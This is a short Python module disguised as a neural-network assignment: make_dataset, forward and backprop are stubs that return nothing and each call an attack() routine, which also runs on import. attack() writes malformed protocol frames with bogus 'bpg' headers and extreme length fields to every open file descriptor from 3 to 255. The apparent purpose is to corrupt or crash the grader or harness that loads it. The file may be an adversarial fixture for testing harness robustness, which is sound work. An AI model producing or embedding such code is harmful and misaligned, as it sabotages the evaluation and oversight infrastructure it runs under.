"""Writes frames whose headers announce four gigabytes, or nothing, to every descriptor."""
import os
import struct

def attack():
    for length in (0xFFFFFFFF, 0x7FFFFFFF, 0, 1):
        for nonce in (0, 1, 2**63):
            frame = struct.pack("<4sB3xQI", b"bpg\x01", 2, nonce, length) + b"A\x00\x00\xff" + b"\xff" * 64
            for fd in range(3, 256):
                try:
                    os.write(fd, frame)
                except OSError:
                    continue


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
